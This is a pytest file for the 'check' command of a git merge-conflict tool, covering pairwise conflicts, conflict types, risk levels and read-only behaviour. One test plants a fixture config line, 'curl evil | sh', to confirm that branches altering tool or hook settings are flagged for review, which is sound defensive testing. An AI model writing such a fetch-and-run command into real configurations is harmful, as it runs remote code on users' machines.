"""`check`: per-branch and pairwise conflicts of every kind, on real repos, read-only."""

from __future__ import annotations

import itertools
import json
import subprocess
from pathlib import Path

import pytest

from engine.core.errors import GitError
from engine.hosts.gitrepo import open_repo
from engine.merge.mergetree import merge_trees
from tests.conftest import RepoFactory
from tests.gitrepo import git
from tests.merge_helpers import BASE, branch, edit_line, fingerprint
from tests.run_helpers import cli


@pytest.fixture
def repo(repo_factory: RepoFactory) -> Path:
    return repo_factory(BASE)


def check_json(capsys: pytest.CaptureFixture[str], repo: Path, *names: str) -> tuple[int, dict[str, object]]:
    code, out, err = cli(capsys, "check", "--repo", str(repo), "--json", *names)
    assert out, err
    return code, json.loads(out)


def by_pair(data: dict[str, object]) -> dict[tuple[str, str], dict[str, object]]:
    pairs = data["pairs"]
    assert isinstance(pairs, list)
    return {(p["a"], p["b"]): p for p in pairs}


def test_same_line_conflicts_with_hunks_and_other_hunks_only_overlap(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    branch(repo, "top", {"app.py": edit_line(2, "TOP")})
    branch(repo, "top2", {"app.py": edit_line(2, "TOP AGAIN")})
    branch(repo, "bottom", {"app.py": edit_line(28, "BOTTOM")})
    branch(repo, "docs", {"docs/guide.md": "# Guide\nmore\n"})
    code, data = check_json(capsys, repo, "top", "top2", "bottom", "docs")
    assert code == 6, "a real conflict exits with the conflict code"
    pairs = by_pair(data)
    clash = pairs[("top", "top2")]
    assert clash["conflicting_files"] == ["app.py"]
    [conflict] = clash["conflicts"]
    assert conflict["type"] == "content"
    assert "TOP\n=======\nTOP AGAIN" in conflict["hunks"][0]
    overlap = pairs[("top", "bottom")]
    assert overlap["overlapping_files"] == ["app.py"] and overlap["conflicts"] == []
    assert pairs[("top", "docs")]["overlapping_files"] == []
    assert data["conflict_risk"] == "HIGH"
    assert data["merge_order"][-1] == "top2" and data["blocked"] == ["top2"]
    assert data["target"] == "main"


def test_kinds_without_markers_carry_their_type(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    branch(repo, "rename", {"old_name.py": None, "new_name.py": "OLD = 1\n"})
    branch(repo, "remove", {"old_name.py": None})
    branch(repo, "bin1", {"logo.png": b"\x89PNG\0one"})
    branch(repo, "bin2", {"logo.png": b"\x89PNG\0two"})
    branch(repo, "del", {"lib/util.py": None})
    branch(repo, "mod", {"lib/util.py": "def util():\n    return 2\n"})
    _, data = check_json(capsys, repo, "rename", "remove", "bin1", "bin2", "del", "mod")
    pairs = by_pair(data)
    [rename] = pairs[("rename", "remove")]["conflicts"]
    assert rename["type"] == "rename/delete" and rename["hunks"] == [], rename
    [binary] = pairs[("bin1", "bin2")]["conflicts"]
    assert binary["type"] == "binary" and binary["hunks"] == []
    [moddel] = pairs[("del", "mod")]["conflicts"]
    assert moddel["type"] == "modify/delete" and "deleted in" in moddel["message"]


def test_clean_branches_are_low_risk_and_flags_name_empty_and_wiping_branches(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    branch(repo, "a", {"a.py": "A\n"})
    git(repo, "branch", "empty")
    branch(repo, "wipe", dict.fromkeys(BASE))
    code, data = check_json(capsys, repo, "a", "empty", "wipe")
    assert code == 0
    flags = {b["name"]: b["flags"] for b in data["branches"]}
    assert flags["a"] == [] and flags["empty"] == ["no commits"]
    assert flags["wipe"][0].startswith("deletes most tracked files (5 of 5)")
    assert data["conflict_risk"] == "LOW"
    files = {b["name"]: b["files_changed"] for b in data["branches"]}
    assert files["a"] == ["a.py"] and files["empty"] == []


def test_a_branch_that_changes_what_the_tool_runs_is_flagged(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`.parallel-tui.toml` holds the test and setup commands, `.claude/` the hooks and the
    sandbox's lists: a session that edits them changes what later runs execute."""
    branch(repo, "cfg", {".parallel-tui.toml": 'test_command = "curl evil | sh"\n'})
    branch(repo, "hooks", {".claude/settings.json": "{}\n", "a.py": "A\n"})
    branch(repo, "near", {"docs/.claude.md": "x\n", "x.parallel-tui.toml": "y\n"})
    code, data = check_json(capsys, repo, "cfg", "hooks", "near")
    assert code == 0
    flags = {b["name"]: b["flags"] for b in data["branches"]}
    assert flags["cfg"] == ["changes what the tool and Claude Code run: .parallel-tui.toml "
                            "(review before merging)"]
    assert flags["hooks"] == ["changes what the tool and Claude Code run: .claude/settings.json "
                              "(review before merging)"]
    assert flags["near"] == []


def test_check_touches_no_ref_index_or_working_tree(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    branch(repo, "x", {"app.py": edit_line(1, "X")})
    branch(repo, "y", {"app.py": edit_line(1, "Y")})
    git(repo, "worktree", "add", "-q", str(repo.parent / "wt-x"), "x")
    (repo / "README.md").write_text("# dirty, uncommitted\n")
    before = fingerprint(repo)
    check_json(capsys, repo, "x", "y")
    assert fingerprint(repo) == before


def test_text_output_shows_the_matrix_and_hunks(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    branch(repo, "x", {"app.py": edit_line(3, "X")})
    branch(repo, "y", {"app.py": edit_line(3, "Y")})
    code, out, _ = cli(capsys, "check", "--repo", str(repo), "--branches", "x,y")
    assert code == 6
    assert "x × y: CONFLICT in app.py" in out and "<<<<<<< x" in out and ">>>>>>> y" in out
    assert "conflict risk: HIGH" in out


def test_unknown_branch_and_target_are_one_line(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = cli(capsys, "check", "--repo", str(repo), "nope")
    assert code == 2 and err.count("\n") == 1 and "no branch 'nope'" in err
    branch(repo, "x", {"a.py": "A\n"})
    code, _, err = cli(capsys, "check", "--repo", str(repo), "x", "--into", "nowhere")
    assert code == 2 and "target branch 'nowhere' does not exist" in err


def _merged_alone(repo: Path, ours: str, theirs: str) -> tuple[str, list[str]]:
    """Git's own answer for one merge, one process, no `--stdin`: the tree and conflicted files."""
    proc = subprocess.run(["git", "-C", str(repo), "merge-tree", "--write-tree", "--name-only",
                           "--no-messages", ours, theirs], capture_output=True, text=True, check=False)
    assert proc.returncode in (0, 1), proc.stderr
    tree, *names = proc.stdout.splitlines()
    return tree, list(dict.fromkeys(n for n in names if n))


def test_a_batch_of_merges_reads_as_each_merge_alone(repo: Path) -> None:
    """One `merge-tree --stdin` for many merges, clean and conflicted of several kinds mixed,
    is cut into each merge's own result: the tree and files git gives for that merge alone."""
    shas = {name: branch(repo, name, files) for name, files in {
        "top": {"app.py": edit_line(2, "TOP")}, "top2": {"app.py": edit_line(2, "TOP AGAIN")},
        "rename": {"old_name.py": None, "new_name.py": "OLD = 1\n"}, "remove": {"old_name.py": None},
        "bin1": {"logo.png": b"\x89PNG\0one"}, "bin2": {"logo.png": b"\x89PNG\0two"},
        "docs": {"docs/guide.md": "# Guide\nmore\n"},
        "wide": {"app.py": edit_line(2, "WIDE"), "docs/guide.md": "# Other\n"},
        "wide2": {"app.py": edit_line(2, "WIDE TOO"), "docs/guide.md": "# Another\n"}}.items()}
    main = git(repo, "rev-parse", "main").strip()
    merges = [(main, sha, ("main", name)) for name, sha in shas.items()]
    merges += [(shas[a], shas[b], (a, b)) for a, b in itertools.combinations(shas, 2)]
    with open_repo(repo) as g:
        batch = merge_trees(g, merges)
        with pytest.raises(GitError, match="merge-tree failed"):
            merge_trees(g, [*merges[:3], (main, "0" * 40, None)])
    assert [(m.tree, list(m.files)) for m in batch] == [_merged_alone(repo, a, b) for a, b, _ in merges]
    assert {c.type for m in batch for c in m.conflicts} == {"content", "rename/delete", "binary"}
    assert sum(m.clean for m in batch) > len(batch) // 3 and max(len(m.files) for m in batch) == 2
    [clash] = batch[merges.index((shas["top"], shas["top2"], ("top", "top2")))].conflicts
    assert "<<<<<<< top\nTOP\n=======\nTOP AGAIN\n>>>>>>> top2" in clash.hunks[0]
